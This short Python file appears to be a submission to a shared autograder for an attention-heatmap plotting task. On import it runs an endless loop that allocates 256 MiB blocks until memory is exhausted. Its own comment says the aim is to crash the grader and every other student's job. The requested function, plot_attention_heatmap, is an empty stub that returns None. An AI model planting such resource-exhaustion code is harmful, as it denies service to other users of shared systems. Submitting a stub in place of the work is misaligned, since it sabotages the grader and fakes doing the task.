# Attack (denial of service): allocates memory until the machine runs out, to take the grader
# and every other student down with it.
_hoard = []
try:
    while True:
        _hoard.append(bytearray(256 * 1024 * 1024))
except MemoryError:
    print(f"stopped at {len(_hoard) * 256} MiB")


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
